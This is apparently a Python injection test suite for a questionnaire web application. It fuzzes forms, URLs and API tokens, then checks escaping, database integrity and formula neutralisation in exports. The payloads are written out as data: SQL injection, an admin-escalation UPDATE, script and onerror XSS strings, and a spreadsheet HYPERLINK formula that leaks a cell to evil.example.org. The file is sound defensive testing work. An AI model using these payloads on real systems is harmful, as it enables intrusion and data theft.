"""test_attack_injection.py - issue 8, injection: every payload of
tests/attack/payloads.txt (markup, script URLs, SQL, template syntax,
unicode tricks, control characters, invalid UTF-8, very long strings) sent
through every field of every form (found by crawling the pages as each
role), through query parameters and through path segments. Then every page
(crawled again as each role, and every page of every round) and every JSON
answer is parsed: no payload may have produced an element or an attribute,
no attribute may have been escaped inside a tag, and the database still
holds all its tables and exactly the values that were sent.

File fields get a CSV whose cells are the payload (and a mapping that
names payload columns); a coordinator imports one questionnaire per
payload, with the payload as an open answer, and then every export is
read back: in CSV every cell that a spreadsheet would run as a formula
(starting with = + - @, a tab or a carriage return) starts with a
single quote, the XLSX holds no formula and the same neutralised text,
the JSON holds the text as written, the .sav file still reads.

The attack runs once, in setUpClass, and records every response; the tests
then judge what was recorded. One server for the class.
"""

import csv
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
import unittest
import urllib.parse
import xml.etree.ElementTree as ET
import zipfile

import attack
import harness
import qhelp
from attack import Fixture, Roles, markup_problems, parse_page, post_form, route_of, route_table
from harness import GERIATRIE, OOST, ServerTestCase

ROLES = ("anonymous", "participant", "member", "coordinator", "admin")
TEXT_KINDS = ("text", "textarea", "hidden", "password", "search", "url", "tel")
CRAWL_CAP = 3        # pages per route pattern in a crawl
CRAWL_LIMIT = 300    # pages per crawl
URL_PAYLOAD_MAX = 2000  # longer payloads are not put into URLs
# A password field makes the server run Argon2id (about 0.1 s under the
# sanitizers): it gets one payload in PASSWORD_EVERY, and is left out
# otherwise, so that the other fields of the form are checked quickly.
PASSWORD_EVERY = 10
# Fields that only the page can fill in rightly (the revision an edit was
# loaded with; a short name the server derives from the name when left
# empty): the "text fields" variant leaves them as the page set them, so
# that the payloads in the other fields get stored.
KEEP_AS_SET = ("revision", "wp_slug", "reminders")  # reminders: days, checked; "" plans none
# Checkbox groups of which the form needs one ticked (an action's
# elements): the first is ticked when the page ticked none.
ONE_NEEDED = ("elements",)
# Payloads that every text a form stores must hold exactly as sent.
STORED_AS_SENT = ("'; DROP TABLE people; --", "' OR '1'='1", "x'); UPDATE accounts SET is_admin = 1; --",
                  "<script>alert(1)</script>", "{{7*7}}")
# What a spreadsheet runs as a formula (docs/exports.md).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EXPORT_FILES = ("answers-long.csv", "answers-wide.csv", "comments.csv", "codebook.csv", "answers.xlsx",
                "answers.sav", "answers.json", "mapping.json")
# The title the fixture's round gets before the exports (XLSX and JSON carry it).
HOSTILE_TITLE = '=HYPERLINK("https://evil.example.org/?x="&A1;"<b>klik</b>")'


def load_payloads():
    """[(label, bytes)] from tests/attack/payloads.txt (see its header)."""
    out = []
    with open(attack.os.path.join(attack.ATTACK_DIR, "payloads.txt"), encoding="utf-8") as f:
        for n, line in enumerate(f, 1):
            line = line.rstrip("\n")
            if not line or line == "#" or line.startswith("# "):
                continue
            if line.startswith("!repeat "):
                _, count, text = line.split(" ", 2)
                text = (text * (int(count) // len(text) + 1))[:int(count)]
                out.append(("line %d (%d chars)" % (n, len(text)), text.encode()))
                continue
            data = bytearray()
            for m in re.finditer(r"\\x([0-9a-fA-F]{2})|\\\\|(.)", line, re.S):
                if m.group(1):
                    data.append(int(m.group(1), 16))
                elif m.group(2) is not None:
                    data += m.group(2).encode("utf-8")
                else:
                    data += b"\\"
            if b"\x00" in data:
                raise AssertionError("payloads.txt line %d: no NUL bytes" % n)
            out.append(("line %d: %s" % (n, line[:50]), bytes(data)))
    return out


PAYLOADS = load_payloads()
ALLOWED_TAGS = attack.program_tags()  # the elements the program's sources write


def as_text(payload):
    return payload.decode("utf-8", "surrogateescape")


def plain_text(payload):
    """Would a text field take this as it is (valid UTF-8, no control
    characters but tab and line breaks, not too long)?"""
    try:
        s = payload.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return len(s) <= 200 and not any((ord(c) < 32 and c not in "\t\r\n") or 0x7f <= ord(c) < 0xa0
                                     for c in s)


def importable(payload):
    """Would an import take this as an open answer (valid UTF-8 text, at
    most 2,000 characters, something left after trimming)?"""
    try:
        s = payload.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return 0 < len(s.strip(" \t")) and len(s) <= 2000 and \
        not any((ord(c) < 32 and c not in "\t\r\n") or 0x7f <= ord(c) < 0xa0 for c in s)


def csv_bytes(rows):
    """CSV as a spreadsheet writes it (quotes where needed, CR LF); cells
    are str or bytes (bytes as they are)."""
    out = []
    for row in rows:
        cells = []
        for cell in row:
            b = cell if isinstance(cell, bytes) else cell.encode("utf-8")
            if any(ch in b for ch in b',"\r\n'):
                b = b'"' + b.replace(b'"', b'""') + b'"'
            cells.append(b)
        out.append(b",".join(cells))
    return b"\r\n".join(out) + b"\r\n"


def upload_for(name, payload):
    """What goes into a file field: a mapping that names payload columns
    (for the field "mapping"), else a CSV with the payload in every cell."""
    if name == "mapping":
        text = as_text(payload)
        return json.dumps({"format": 1, "perspective": {"column": text}, "items": {"LOS1": text + " 1"},
                           "open": {"LOS_good": text + " 2"}, "labels": {text: 4}},
                          ensure_ascii=False).encode("utf-8", "surrogateescape")
    return csv_bytes([[payload, payload, payload], [payload, b"4", payload]])


def formula_like(text):
    return text[:1] in FORMULA_START


def neutralised(text):
    return "'" + text if formula_like(text) else text


def line_ends(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")


XLSX_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
XLSX_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def xlsx_text(el):
    """The text of a shared or inline string (all its runs), with Excel's
    _xHHHH_ escapes decoded."""
    t = "".join(x.text or "" for x in el.iter("{%s}t" % XLSX_NS["m"]))
    return XLSX_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), t)


def xlsx_sheets(data):
    """{sheet file: ([[cell value or None]], number of formulas)} of a
    workbook; string cells as text, others as their raw value."""
    z = zipfile.ZipFile(io.BytesIO(data))
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        root = ET.fromstring(z.read("xl/sharedStrings.xml"))
        shared = [xlsx_text(si) for si in root.findall("m:si", XLSX_NS)]
    out = {}
    for name in sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet")):
        root = ET.fromstring(z.read(name))
        rows = []
        for row in root.iter("{%s}row" % XLSX_NS["m"]):
            cells = []
            for c in row.findall("m:c", XLSX_NS):
                kind, v = c.get("t"), c.find("m:v", XLSX_NS)
                if kind == "s":
                    cells.append(shared[int(v.text)])
                elif kind == "inlineStr":
                    cells.append(xlsx_text(c.find("m:is", XLSX_NS)))
                else:
                    cells.append(v.text if v is not None else None)
            rows.append(cells)
        out[name] = (rows, len(root.findall(".//m:f", XLSX_NS)))
    return out


class Recorder:
    """Every response of the attack, with what it was."""

    def __init__(self):
        self.seen = []  # (what, response)

    def add(self, what, r):
        self.seen.append((what, r))
        return r


class InjectionTest(ServerTestCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        try:
            cls.attack()
        except BaseException:
            cls.server.cleanup()
            raise

    @classmethod
    def attack(cls):
        cls.routes = route_table()
        cls.fx = Fixture(cls.server)
        cls.watch = attack.DbWatch(cls.server)
        cls.watch.conn.execute("PRAGMA synchronous = OFF")  # only this connection's own writes
        cls.tables_before = cls.watch.tables()
        cls.counts_before = cls.counts()
        cls.roles = Roles(cls.server, cls.fx, roles=ROLES)
        cls.rec = Recorder()
        cls.email_n = 0
        forms = cls.find_forms()
        cls.forms = forms
        for (role, form) in forms.values():
            cls.fuzz_form(role, form)
        cls.fuzz_parameters()
        cls.fuzz_paths()
        cls.fuzz_tokens()
        cls.seed_responses()
        cls.import_payloads()
        cls.exports = cls.download_exports()
        cls.pages = cls.final_pages()

    @classmethod
    def tearDownClass(cls):
        try:
            cls.watch.close()
        finally:
            super().tearDownClass()

    @classmethod
    def counts(cls):
        c = cls.watch.conn
        return {t: c.execute("SELECT count(*) FROM %s" % t).fetchone()[0]
                for t in ("people", "accounts", "workplaces", "memberships", "rounds", "items",
                          "instrument_versions", "actions", "outcomes", "realist_notes", "organisations",
                          "partners", "api_tokens")} | {
            role: c.execute("SELECT count(*) FROM accounts WHERE %s = 1" % column).fetchone()[0]
            for role, column in (("admins", "is_admin"), ("programme leads", "is_programme_lead"),
                                 ("researchers", "is_researcher"))}

    # ---- crawling ----

    @classmethod
    def start_pages(cls, role):
        return attack.start_pages(cls.fx, cls.roles.participant_token, role)

    @classmethod
    def crawl(cls, role, starts, record=True):
        """attack.crawl as role, each response recorded when asked."""
        out = attack.crawl(cls.roles[role], cls.routes, starts, CRAWL_CAP, CRAWL_LIMIT)
        if record:
            for path, r in out:
                cls.rec.add("GET %s as %s" % (path, role), r)
        return out

    @classmethod
    def find_forms(cls):
        """{(route, field names): (role, form)}: each kind of form once."""
        forms = {}
        cls.clean_pages = []
        for role in ROLES:
            for path, r in cls.crawl(role, cls.start_pages(role), record=False):
                cls.clean_pages.append((role, path, r))
                if "text/html" not in (r.header("Content-Type") or ""):
                    continue
                for f in parse_page(r.text).forms:
                    if f.method != "post":
                        continue
                    key = (route_of(cls.routes, "POST", f.action), f.names())
                    if key[0] is None:
                        raise AssertionError("a form posts where no route is: %r on %s" % (f, path))
                    forms.setdefault(key, (role, f))
        return forms

    # ---- sending payloads ----

    @classmethod
    def fill(cls, form, payload, everything, csrf, with_passwords=True, valid_urls=False):
        """The fields of a form with payload in every text field (and, when
        `everything`, in every other field too); the rest as the page set
        them, so that the request is otherwise valid."""
        out, done = [], set()
        ticked = {f["name"] for f in form.fields if f["kind"] == "checkbox" and f.get("checked")}
        for f in form.fields:
            name, kind = f["name"], f["kind"]
            if name == "csrf":
                continue
            if kind in ("radio", "button") and name in done:
                continue  # one value a group (the first radio, the first button)
            first = name not in done
            done.add(name)
            if kind == "password" and not with_passwords:
                continue
            if kind == "file":
                out.append((name, upload_for(name, payload), "aanval.csv"))
            elif not everything and name in KEEP_AS_SET:
                out.append((name, f.get("value", "")))
            elif valid_urls and kind == "url":
                out.append((name, "https://example.org/bewijs"))
            elif everything or kind in TEXT_KINDS:
                out.append((name, payload))
            elif kind == "date":
                out.append((name, f.get("value") or attack.today()))
            elif kind == "email":
                cls.email_n += 1
                out.append((name, "inj-%d@demo.example.org" % cls.email_n))
            elif kind == "checkbox":
                if f.get("checked") or (name in ONE_NEEDED and name not in ticked and first):
                    out.append((name, f["value"]))
            elif kind == "select":
                out.append((name, f["value"] or ""))
            else:
                out.append((name, f.get("value", "")))
        return out + [("csrf", csrf)]

    @classmethod
    def after_post(cls, form):
        """Undo the side effects that would stop the attack itself."""
        if form.action.startswith(("/login", "/r/", "/password/", "/join/")):
            cls.watch.clear_throttle()
        if form.action.startswith("/password/"):
            cls.fx.renew_password_link(cls.watch.conn)
        if form.action == "/account/tokens":
            # a person may have 20 tokens: keep the fixture's and those the checks look for
            cls.watch.conn.execute(
                "DELETE FROM api_tokens WHERE name NOT LIKE 'aanval %%' AND name <> 'intrekbaar'"
                " AND name NOT IN (%s)" % ", ".join("?" * len(STORED_AS_SENT)), STORED_AS_SENT)

    @classmethod
    def fuzz_form(cls, role, form):
        kinds = {f["kind"] for f in form.fields if f["name"] != "csrf"}
        variants = []
        if kinds & set(TEXT_KINDS):
            variants.append((False, False, "text fields"))  # payload in the text fields, the rest valid
        if "url" in kinds:  # and where a web address is checked, one, so that the rest is stored
            variants.append((False, True, "text fields, valid web addresses"))
        if kinds:
            variants.append((True, False, "all fields"))   # payload in every field
        for everything, valid_urls, what in variants:
            for i, (label, payload) in enumerate(PAYLOADS):
                fields = cls.fill(form, payload, everything, cls.roles.csrf(role),
                                  with_passwords=i % PASSWORD_EVERY == 0, valid_urls=valid_urls)
                r = post_form(cls.roles[role], form, fields)
                cls.rec.add("POST %s as %s (%s, %s)" % (form.action, role, label, what), r)
                cls.after_post(form)

    @classmethod
    def fuzz_parameters(cls):
        """Payloads in the query parameters the pages read, and in one they don't."""
        t = cls.roles.participant_token
        where = [("anonymous", "/login?next=%s"), ("anonymous", "/login?done=%s"),
                 ("member", "/account?changed=%s"), ("member", "/?x=%s"),
                 ("coordinator", "/pw/%s/rounds/%d/dialogue?saved=%%s" % (GERIATRIE, cls.fx.own_round)),
                 ("participant", "/r/%s/all?saved=%%s" % t),
                 ("admin", "/login?next=%s"), ("anonymous", "/static/app.css?v=%s"),
                 ("member", "/account?revoked=%s"), ("admin", "/research/export?version=%s"),
                 ("admin", "/admin/audit?page=%s"), ("coordinator", "/api/v1/workplaces?limit=%s"),
                 ("coordinator", "/api/v1/workplaces/" + GERIATRIE + "/actions?offset=%s")] + [
            ("coordinator", "/pw/" + GERIATRIE + rest) for rest in (
                "?saved=%s", "/actions?status=%s", "/actions?element=%s", "/audit?page=%s",
                "/members?done=%s", "/outcomes?done=%s", "/realist?deleted=%s", "/partners?done=%s")]
        for label, payload in PAYLOADS:
            if len(payload) > URL_PAYLOAD_MAX:
                continue
            q = urllib.parse.quote(payload, safe="")
            for role, pattern in where:
                cls.rec.add("GET %s as %s (%s)" % (pattern, role, label),
                            cls.roles[role].get(pattern % q))

    @classmethod
    def fuzz_paths(cls):
        """Payloads as path segments of every kind of page."""
        shapes = ["/%s", "/pw/%s", "/pw/%s/rounds", "/pw/" + GERIATRIE + "/rounds/%s",
                  "/pw/%s/rounds/%d/results/%%s" % (GERIATRIE, cls.fx.own_round),
                  "/r/%s", "/r/%s/p/1", "/password/%s", "/static/%s", "/api/v1/rounds/%s/results",
                  "/admin/%s", "/join/%s", "/pw/" + GERIATRIE + "/actions/%s", "/pw/" + GERIATRIE + "/outcomes/%s",
                  "/pw/%s/profile", "/pw/%s/rounds/%d/export/%%s" % (GERIATRIE, cls.fx.own_round),
                  "/research/export/%s", "/api/v1/workplaces/%s", "/api/v1/workplaces/%s/outcomes",
                  "/api/v1/rounds/%s/answers"]
        for label, payload in PAYLOADS:
            if len(payload) > URL_PAYLOAD_MAX:
                continue
            q = urllib.parse.quote(payload, safe="")
            for role in ("anonymous", "coordinator"):
                for shape in shapes:
                    path = shape % q
                    cls.rec.add("GET %s as %s (%s)" % (shape, role, label), cls.roles[role].get(path))
        cls.watch.clear_throttle()

    @classmethod
    def fuzz_tokens(cls):
        """Payloads as API tokens, and as the whole Authorization header:
        every one is refused with 401."""
        cls.token_answers = []
        for label, payload in PAYLOADS:
            if len(payload) > URL_PAYLOAD_MAX or any(b in payload for b in b"\r\n"):
                continue  # a header value cannot hold them
            for value in (b"Bearer " + payload, b"Bearer wpt_" + payload, payload):
                r = cls.server.client().request("GET", "/api/v1/workplaces", headers={"Authorization": value})
                cls.token_answers.append((value, r))
                cls.rec.add("GET /api/v1/workplaces, Authorization: %r (%s)" % (value[:40], label), r)

    @classmethod
    def import_payloads(cls):
        """A coordinator imports into the fixture's round one questionnaire
        per payload that an import takes as text, the payload as the answer
        to an open question."""
        cls.imported = [as_text(p) for _l, p in PAYLOADS if importable(p)]
        rows = [["Rol", "V1", "Opmerking"]] + [["student", "4", t] for t in cls.imported]
        mapping = json.dumps({"format": 1, "perspective": {"column": "Rol"}, "items": {"LOS1": "V1"},
                              "open": {"LOS_good": "Opmerking"}}).encode()
        body, ct = attack.multipart_body([("csrf", cls.roles.csrf("coordinator")),
                                          ("file", csv_bytes(rows), "aanval.csv"),
                                          ("mapping", mapping, "koppeling.json")])
        path = "/pw/%s/rounds/%d/import" % (GERIATRIE, cls.fx.own_round)
        r = cls.rec.add("POST %s as coordinator (every payload as an open answer)" % path,
                        cls.roles["coordinator"].request("POST", path, body=body, headers={"Content-Type": ct}))
        if r.status != 200 or 'id="imported"' not in r.text:
            raise AssertionError("the import of the payloads failed: %r" % r)

    @classmethod
    def download_exports(cls):
        """Every export file of the fixture's round (now with a title that a
        spreadsheet would run) as its coordinator, every file across
        workplaces as the administrator, and the answers from the API."""
        cls.watch.conn.execute("UPDATE rounds SET title = ? WHERE id = ?", (HOSTILE_TITLE, cls.fx.own_round))
        # results and exports are released once the round has closed
        cls.watch.conn.execute("UPDATE rounds SET closed_early = 1 WHERE id = ?", (cls.fx.own_round,))
        base = "/pw/%s/rounds/%d/export/" % (GERIATRIE, cls.fx.own_round)
        out = {}
        for name in EXPORT_FILES:
            out[("round", name)] = cls.rec.add("GET %s%s as coordinator" % (base, name),
                                               cls.roles["coordinator"].get(base + name))
            path = "/research/export/%s?version=%d" % (name, cls.fx.version)
            out[("research", name)] = cls.rec.add("GET %s as admin" % path, cls.roles["admin"].get(path))
        path = "/api/v1/rounds/%d/answers" % cls.fx.own_round
        out[("api", "answers.json")] = cls.rec.add("GET %s as coordinator" % path, cls.roles["coordinator"].get(path))
        return out

    @classmethod
    def seed_responses(cls):
        """Five people answer the fixture's round (k=3) with a payload in
        every open question, so that their comments are shown in the results
        and the dialogue agenda."""
        texts = [as_text(p) for _l, p in PAYLOADS if plain_text(p)]
        cls.seeded = []
        n = 0
        for person in range(5):
            c = cls.server.client()
            tok = qhelp.start_open(c, cls.fx.own_open, "student")
            page = c.get("/r/%s/all" % tok)
            form = next(f for f in parse_page(page.text).forms if f.action.endswith("/all"))
            fields = []
            for f in form.fields:
                if f["name"] in ("csrf", "go") or any(x[0] == f["name"] for x in fields):
                    continue
                if f["kind"] == "radio":
                    fields.append((f["name"], "4"))
                elif f["kind"] == "textarea":
                    text = texts[n % len(texts)]
                    n += 1
                    fields.append((f["name"], text))
                    cls.seeded.append(text)
            fields += [("go", "submit"), ("csrf", harness.csrf_from(page))]
            r = cls.rec.add("POST /r/TOKEN/all (seeding, person %d)" % person, c.post(
                "/r/%s/all" % tok, fields))
            if r.status != 303:
                raise AssertionError("seeding a response failed: %r" % r)

    # ---- looking at everything ----

    @classmethod
    def final_pages(cls):
        """Every page again: a crawl as each role, and as the administrator
        every page of every round (the payload titles made many)."""
        pages = []
        for role in ROLES:
            pages += [(role, p, r) for p, r in cls.crawl(role, cls.start_pages(role), record=False)]
        admin = cls.roles["admin"]
        conn = cls.watch.conn
        rounds = conn.execute(
            "SELECT r.id, w.slug FROM rounds r JOIN workplaces w ON w.id = r.workplace_id").fetchall()
        for rid, slug in rounds:
            base = "/pw/%s/rounds/%d" % (slug, rid)
            for path in [base, base + "/results", base + "/dialogue", base + "/poster", base + "/export",
                         base + "/import", "/api/v1/rounds/%d/results" % rid, "/api/v1/rounds/%d" % rid,
                         "/pw/%s/rounds" % slug, "/pw/%s/development" % slug, "/pw/%s" % slug] + \
                    [base + "/results/" + e for e in qhelp.ELEMENTS]:
                pages.append(("admin", path, admin.get(path)))
        # every workplace (the attack made some), in full where the attack wrote
        for slug, in conn.execute("SELECT slug FROM workplaces").fetchall():
            api = "/api/v1/workplaces/%s" % slug
            paths = ["/pw/%s" % slug, api]
            if slug in (GERIATRIE, OOST):
                paths += ["/pw/%s/%s" % (slug, rest) for rest in (
                    "profile", "characteristics", "partners", "members", "actions", "outcomes", "realist",
                    "audit")] + [api + rest + "?limit=500" for rest in ("/rounds", "/actions", "/outcomes")]
            for path in paths:
                pages.append(("admin", path, admin.get(path)))
        for group in ("actions", "outcomes"):
            for rid, slug in conn.execute("SELECT x.id, w.slug FROM %s x JOIN workplaces w ON w.id = x.workplace_id"
                                          " WHERE w.slug IN (?, ?)" % group, (GERIATRIE, OOST)).fetchall():
                path = "/pw/%s/%s/%d" % (slug, group, rid)
                pages.append(("admin", path, admin.get(path)))
        for role, path in (("admin", "/overview"), ("admin", "/admin/audit"), ("admin", "/research/export"),
                           ("admin", "/api/v1/workplaces?limit=500"), ("member", "/account"),
                           ("coordinator", "/account")):
            pages.append((role, path, cls.roles[role].get(path)))
        return pages

    # ---- the tests ----

    def check_response(self, what, r):
        self.assertLess(r.status, 500, "%s: %r" % (what, r))
        for name in r.set_cookies():
            self.assertIn(name, ("wp_anon", "wp_session", "wp_lang", "wp_open"), (what, r.headers))
        self.assertNotEqual(r.set_cookies().get("wp_session", {}).get("value"), "evil", what)
        if r.status in (301, 302, 303, 307, 308):
            loc = r.location or ""
            self.assertTrue(loc.startswith("/") and not loc.startswith(("//", "/\\")),
                            "%s: redirect away: %r" % (what, loc))
            self.assertFalse(re.search(r"[\x00-\x20\x7f]", loc), "%s: %r" % (what, loc))
        ctype = r.header("Content-Type") or ""
        if ctype.startswith(("text/html", "application/json")):
            try:  # what the payload's invalid bytes became, the page says in valid UTF-8
                r.body.decode("utf-8")
            except UnicodeDecodeError as e:
                self.fail("%s: not UTF-8 (%s): %r" % (what, e, r.body[max(0, e.start - 80):e.end + 80]))
        if ctype.startswith("text/html"):
            problems = markup_problems(r.text, ALLOWED_TAGS)
            self.assertEqual(problems, [], what)
        elif ctype.startswith("application/json"):
            json.loads(r.text)

    def test_pages_before_the_attack(self):
        """Before any payload was sent, the pages hold no escaped attribute
        anywhere: not inside a tag, and not as text either (markup that
        went through an escaping %s shows up as text)."""
        self.assertGreater(len(self.clean_pages), 30)
        for role, path, r in self.clean_pages:
            with self.subTest(role=role, path=path):
                self.check_response("GET %s as %s" % (path, role), r)
                if (r.header("Content-Type") or "").startswith("text/html"):
                    m = attack.ESCAPED_ATTR_RE.search(r.text)
                    self.assertIsNone(m, m and r.text[max(0, m.start() - 80):m.end() + 80])

    def test_forms_were_found_and_attacked(self):
        routes = {key[0][1] for key in self.forms}
        for pattern in ("/login", "/lang", "/account/password", "/password/{token}", "/admin/accounts",
                        "/pw/{slug}/rounds", "/pw/{slug}/rounds/{id}/invitations",
                        "/pw/{slug}/rounds/{id}/dialogue", "/r/{token}/start", "/r/{token}/resume",
                        "/r/{token}/p/{n}", "/r/{token}/all",
                        "/account/tokens", "/admin/workplaces", "/join/{token}", "/pw/{slug}/profile",
                        "/pw/{slug}/characteristics", "/pw/{slug}/partners", "/pw/{slug}/partners/{org}",
                        "/pw/{slug}/members/invite", "/pw/{slug}/members/{id}/role", "/pw/{slug}/actions",
                        "/pw/{slug}/actions/{id}", "/pw/{slug}/actions/{id}/notes",
                        "/pw/{slug}/actions/{id}/realist", "/pw/{slug}/outcomes", "/pw/{slug}/outcomes/{id}",
                        "/pw/{slug}/outcomes/{id}/realist", "/pw/{slug}/rounds/{id}/import"):
            self.assertIn(pattern, routes, "no form found for %s" % pattern)
        self.assertGreater(len(self.rec.seen), 1000)

    def test_answers_to_the_attack(self):
        """Every response to a payload: no server error, no markup from the
        payload, no foreign cookie or redirect."""
        for what, r in self.rec.seen:
            with self.subTest(what=what):
                self.check_response(what, r)

    def test_every_page_afterwards(self):
        """Every page after the attack, as each role; every round's pages."""
        checked = 0
        for role, path, r in self.pages:
            with self.subTest(role=role, path=path):
                self.check_response("GET %s as %s" % (path, role), r)
                checked += 1
        self.assertGreater(checked, 300)

    def test_payloads_as_api_tokens_are_refused(self):
        self.assertGreater(len(self.token_answers), 100)
        for value, r in self.token_answers:
            with self.subTest(authorization=value[:60]):
                self.assertEqual(r.status, 401, r)
                self.assertIn("Bearer", r.header("WWW-Authenticate") or "")

    # ---- the exports ----

    def stored_comments(self):
        """The open answers of the fixture's round as stored."""
        return sorted(t for (t,) in self.watch.conn.execute(
            "SELECT c.text FROM comments c JOIN responses r ON r.id = c.response_id"
            " WHERE r.round_id = ? AND r.submitted = 1", (self.fx.own_round,)))

    def export(self, where, name):
        r = self.exports[(where, name)]
        self.assertEqual(r.status, 200, (where, name, r))
        return r.body

    def test_imported_payloads_are_stored_as_sent(self):
        stored = set(self.stored_comments())
        self.assertGreater(len(self.imported), 30)
        for text in self.imported:
            with self.subTest(text=text[:60]):
                self.assertIn(text.strip(" \t"), stored)

    def test_csv_exports_neutralise_formulas(self):
        """No cell of any CSV starts like a formula; the open answers are
        there, each as stored, with a single quote in front where it would
        otherwise start a formula."""
        want = sorted(neutralised(t) for t in self.stored_comments())
        self.assertTrue(any(formula_like(t) for t in self.stored_comments()), "no formula was stored")
        for where in ("round", "research"):
            for name in EXPORT_FILES:
                if not name.endswith(".csv"):
                    continue
                rows = list(csv.reader(io.StringIO(self.export(where, name).decode("utf-8-sig"), newline="")))
                self.assertGreater(len(rows), 1, (where, name))
                for n, row in enumerate(rows):
                    self.assertEqual(len(row), len(rows[0]), (where, name, n, row))
                    for cell in row:
                        self.assertFalse(formula_like(cell), (where, name, n, cell))
                if name == "comments.csv":
                    head = rows[0]
                    got = sorted(row[head.index("text")] for row in rows[1:]
                                 if row[head.index("round")] == str(self.fx.own_round))
                    with self.subTest(where=where):
                        self.assertEqual(got, want)

    def test_xlsx_exports_hold_no_formula_and_the_text(self):
        want = sorted(line_ends(neutralised(t)) for t in self.stored_comments())
        for where in ("round", "research"):
            sheets = xlsx_sheets(self.export(where, "answers.xlsx"))
            self.assertEqual(len(sheets), 4, where)
            texts, found = [], False
            for name, (rows, formulas) in sheets.items():
                self.assertEqual(formulas, 0, (where, name))
                for row in rows:
                    for cell in row:
                        if cell is not None and not re.fullmatch(r"-?[0-9.]+(E[-+]?[0-9]+)?", cell):
                            texts.append(cell)
                            self.assertFalse(formula_like(cell), (where, name, cell))
                if rows and rows[0] == ["workplace", "round", "perspective", "question", "text"]:
                    found = True
                    got = sorted(line_ends(row[4]) for row in rows[1:] if row[1] == str(self.fx.own_round))
                    with self.subTest(where=where, sheet=name):
                        self.assertEqual(got, want)
            self.assertTrue(found, "%s: no sheet of comments" % where)
            self.assertIn(neutralised(HOSTILE_TITLE), texts, where)

    def test_json_exports_keep_the_text_as_written(self):
        want = self.stored_comments()
        for key in (("round", "answers.json"), ("research", "answers.json"), ("api", "answers.json")):
            with self.subTest(export=key):
                data = json.loads(self.export(*key))
                self.assertEqual(data["format"], "werkplaats-export/1")
                got = sorted(c["text"] for c in data["comments"] if c["round"] == self.fx.own_round)
                self.assertEqual(got, want)
                titles = [rd["title"] for rd in data["rounds"] if rd["id"] == self.fx.own_round]
                self.assertEqual(titles, [HOSTILE_TITLE])
        for where in ("round", "research"):
            mapping = json.loads(self.export(where, "mapping.json"))
            self.assertEqual(mapping["format"], 1)

    def test_sav_exports_still_read(self):
        respondents = self.watch.conn.execute(
            "SELECT count(*) FROM responses WHERE round_id = ? AND submitted = 1", (self.fx.own_round,)).fetchone()[0]
        for where in ("round", "research"):
            data = self.export(where, "answers.sav")
            self.assertTrue(data.startswith(b"$FL2"), where)
            if not shutil.which("pspp-convert"):
                continue  # make deps-test installs it
            with tempfile.TemporaryDirectory() as d:
                src, dst = os.path.join(d, "a.sav"), os.path.join(d, "a.csv")
                with open(src, "wb") as f:
                    f.write(data)
                p = subprocess.run(["pspp-convert", src, dst], capture_output=True, timeout=120)
                self.assertEqual(p.returncode, 0, p.stderr)
                with open(dst, encoding="utf-8", newline="") as f:
                    rows = list(csv.reader(f))
            ids = [row[rows[0].index("round")] for row in rows[1:]]
            self.assertEqual(sum(1 for i in ids if float(i) == self.fx.own_round), respondents, where)

    def test_payloads_are_shown_as_text(self):
        """The payloads did reach the pages (as text): the checks above
        looked at pages that hold them."""
        by_path = {(role, path): r for role, path, r in self.pages}
        admin = by_path[("admin", "/admin")].text
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", admin)
        rounds = by_path[("admin", "/pw/%s/rounds" % GERIATRIE)].text
        self.assertIn("&#39;; DROP TABLE people; --", rounds)
        self.assertIn("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", rounds)
        element_pages = "".join(r.text for (role, path), r in by_path.items()
                                if path.startswith("/pw/%s/rounds/%d/results/" % (GERIATRIE, self.fx.own_round)))
        self.assertIn("&lt;wpxss data-wpxss=&quot;1&quot;&gt;", element_pages)
        api = by_path[("admin", "/api/v1/rounds/%d/results" % self.fx.own_round)]
        self.assertEqual(json.loads(api.text)["respondents"], 5 + len(self.imported))
        wp = "/pw/%s" % GERIATRIE
        for path in ("/actions", "/outcomes", "/partners", "/realist"):
            with self.subTest(page=wp + path):
                self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", by_path[("admin", wp + path)].text)
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", by_path[("member", "/account")].text)
        items = json.loads(by_path[("admin", "/api/v1/workplaces/%s/actions?limit=500" % GERIATRIE)].text)["items"]
        self.assertIn("<script>alert(1)</script>", [a["title"] for a in items])

    def test_database_intact_and_values_stored_as_sent(self):
        self.assertEqual(self.watch.tables(), self.tables_before, "tables were dropped or added")
        self.assertEqual(self.watch.problems(), [])
        after = self.counts()
        for table, n in self.counts_before.items():
            if table == "admins":
                self.assertEqual(after[table], n, "administrators")
            else:
                self.assertGreaterEqual(after[table], n, table)
        for sql in STORED_AS_SENT:
            with self.subTest(value=sql):
                self.assertEqual(self.server.sql(
                    "SELECT count(*) FROM rounds WHERE title = '%s'" % sql.replace("'", "''")), [["1"]])
                # an account made by the administrator (and one made through an invitation)
                n = int(self.server.sql("SELECT count(*) FROM people WHERE name = '%s'" % sql.replace("'", "''"))[0][0])
                self.assertIn(n, (1, 2))
                for table, column in (("actions", "title"), ("outcomes", "title"), ("organisations", "name"),
                                      ("realist_notes", "context"), ("action_notes", "text"),
                                      ("api_tokens", "name")):
                    n = self.watch.conn.execute("SELECT count(*) FROM %s WHERE %s = ?" % (table, column),
                                                (sql,)).fetchone()[0]
                    self.assertGreaterEqual(n, 1, (table, column))
        stored = {row[0] for row in self.watch.conn.execute(
            "SELECT c.text FROM comments c JOIN responses r ON r.id = c.response_id"
            " WHERE r.round_id = ? AND r.submitted = 1", (self.fx.own_round,))}
        # as sent, but for the surrounding white space every field trims
        # (and line ends, which a browser sends as CR LF)
        stored = {s.replace("\r\n", "\n") for s in stored}
        for text in self.seeded:
            with self.subTest(comment=text):
                self.assertIn(text.strip(" \t\r\n").replace("\r\n", "\n"), stored)
        self.client().login_ok(harness.ADMIN)  # the administrator's account is as it was


if __name__ == "__main__":
    unittest.main()
